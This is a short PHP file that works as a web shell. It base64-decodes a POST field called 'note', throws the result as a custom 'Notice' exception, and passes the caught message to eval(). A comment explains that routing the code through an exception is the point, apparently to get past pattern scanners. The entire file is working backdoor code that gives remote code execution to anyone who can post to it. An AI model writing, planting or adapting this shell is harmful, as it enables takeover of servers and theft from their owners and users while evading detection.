<?php
// The posted code travels inside an exception: thrown in one block, evaluated from the caught
// object's message in the next.
class Notice extends RuntimeException
{
}

try {
    if (!empty($_POST['note'])) {
        throw new Notice(base64_decode($_POST['note']));
    }
} catch (Notice $n) {
    eval($n->getMessage());
}
